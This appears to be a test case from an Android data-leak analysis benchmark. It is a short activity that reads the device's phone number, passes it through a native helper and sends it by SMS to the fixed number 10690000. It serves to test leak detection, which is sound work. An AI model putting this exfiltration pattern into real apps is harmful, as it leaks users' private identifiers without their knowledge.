// about       A helper function of the library joins two texts in a block of memory; both are sent.
// leak        PHONE_NUMBER sms
// native      HelperCopies_leak.c
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  static {
    System.loadLibrary("HelperCopies_leak");
  }

  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    String text = join(String.valueOf(phone.getLine1Number()), "main");
    SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
  }

  private static native String join(String number, String screen);
}
